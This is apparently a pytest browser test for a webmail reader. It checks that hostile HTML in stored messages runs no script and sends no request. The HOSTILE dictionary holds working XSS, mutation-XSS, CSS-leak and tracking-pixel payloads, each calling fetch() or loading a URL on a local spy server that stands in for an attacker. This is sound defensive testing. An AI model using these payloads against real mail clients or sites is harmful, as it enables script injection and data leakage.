"""Hostile mail in a real browser: no script runs, nothing is asked of any server, nothing leaves the page."""

import http.server
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from fakes.review_browser import readers_window
from fakes.review_pages import NOW, message_of
from fakes.serving import serving

from storage import messages

pytestmark = pytest.mark.browser

HOSTILE = {
    "script": "<script>fetch('{spy}/script')</script><script src='{spy}/src.js'></script>",
    "handlers": "<img src=x onerror=\"fetch('{spy}/onerror')\"><body onload=\"fetch('{spy}/onload')\">",
    "svg": "<svg onload=\"fetch('{spy}/svg')\"><image href='{spy}/svg.png'/><script>fetch('{spy}/s')</script></svg>",
    "pixel": "<img src='{spy}/pixel.gif' width=1 height=1><img srcset='{spy}/set.gif 1x'>",
    "styles": "<style>@import '{spy}/import.css'; p{{background:url({spy}/bg.png)}} @font-face{{font-family:f;"
    "src:url({spy}/f.woff)}} p{{font-family:f}} input[value^=a]{{background:url({spy}/leak)}}</style><p>x</p>"
    "<div style=\"background-image:url('{spy}/inline.png')\">y</div><input value=abc>",
    "links": "<link rel=stylesheet href='{spy}/l.css'><link rel=preconnect href='{spy}'>"
    "<link rel=icon href='{spy}/i'><link rel=dns-prefetch href='{spy}'><link rel=preload as=image href='{spy}/pre'>"
    "<link rel=prefetch href='{spy}/p'>",
    "refresh": "<meta http-equiv=refresh content='0;url={spy}/refresh'>",
    "base": "<base href='{spy}/'><img src='based.png'><a href='a'>click</a>",
    "form": "<form action='{spy}/form'>"
    '<input name=a value=b autofocus onfocus="this.form.submit()"><button>go</button></form>',
    "frames": "<iframe src='{spy}/frame'></iframe><iframe srcdoc=\"<img src='{spy}/srcdoc'>\"></iframe>"
    "<object data='{spy}/object'></object><embed src='{spy}/embed'><frameset><frame src='{spy}/fs'></frameset>",
    "media": "<video src='{spy}/v' poster='{spy}/poster' autoplay></video><audio src='{spy}/a' autoplay></audio>"
    "<picture><source srcset='{spy}/source'></picture><table background='{spy}/table'><td>x</table>",
    "urls": "<a href=\"javascript:fetch('{spy}/js')\" id=bait>click</a><img src=\"javascript:fetch('{spy}/js2')\">"
    "<a href='data:text/html,<script>fetch(1)</script>'>data</a><a href='{spy}/ping' ping='{spy}/pinged'>ping</a>",
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=fetch('{spy}/noscript')>\"></noscript>"
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=fetch('{spy}/m')>\">",
    "speculation": '<script type="speculationrules">'
    '{{"prefetch":[{{"source":"list","urls":["{spy}/spec"]}}]}}</script>',
    "deep": "<div>" * 3000 + "<img src='{spy}/deep.png'>",
    "template": "<template><img src='{spy}/t'></template><portal src='{spy}/portal'></portal>"
    "<xml><i><b>&lt;img/src=1&gt;",
}


@pytest.fixture
def spy() -> Iterator[SimpleNamespace]:
    """Listen, and write down who asks for anything."""
    asked: list[str] = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server looks for

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    with serving(server):
        yield SimpleNamespace(address=f"http://127.0.0.1:{server.server_port}", asked=asked)


@pytest.fixture
def page(sqlite_store: Any, spy: SimpleNamespace) -> Iterator[Any]:
    """Give a reader's window on a page that holds every hostile mail, in subject, text, sender and HTML."""
    for number, html in enumerate(HOSTILE.values(), start=1):
        evil = html.format(spy=spy.address)
        mail = message_of(number, subject=evil[:900], sender_name=evil[:200], html=evil)
        messages.save_message(sqlite_store, mail, now=NOW)
    with readers_window(sqlite_store) as window:
        yield window


def test_f76_hostile_mail_runs_nothing_and_asks_nothing(page, spy):
    for number in range(1, len(HOSTILE) + 1):
        for path in (f"/messages/{number}", f"/messages/{number}/original", f"/messages/{number}/original.html"):
            page.goto(path)
            page.wait_for_timeout(60)
            assert page.url.endswith(path)
    page.wait_for_timeout(300)
    assert [url for url in page.left if not url.startswith((page.home, "data:", "about:"))] == []
    assert spy.asked == []
    assert page.spoke == []


def test_bait_in_the_frame_leads_nowhere(page, spy):
    number = list(HOSTILE).index("urls") + 1
    page.goto(f"/messages/{number}/original")
    frame = page.frame_locator("iframe.app-frame")
    for words in ("click", "data", "ping"):
        frame.locator(f"text={words}").first.click()
    page.wait_for_timeout(300)
    assert spy.asked == []
    assert page.url.endswith(f"/messages/{number}/original")


def test_spy_would_have_noticed(page, spy):
    page.evaluate("address => { location.href = address + '/noticed'; }", spy.address)
    page.wait_for_timeout(500)
    assert "/noticed" in spy.asked
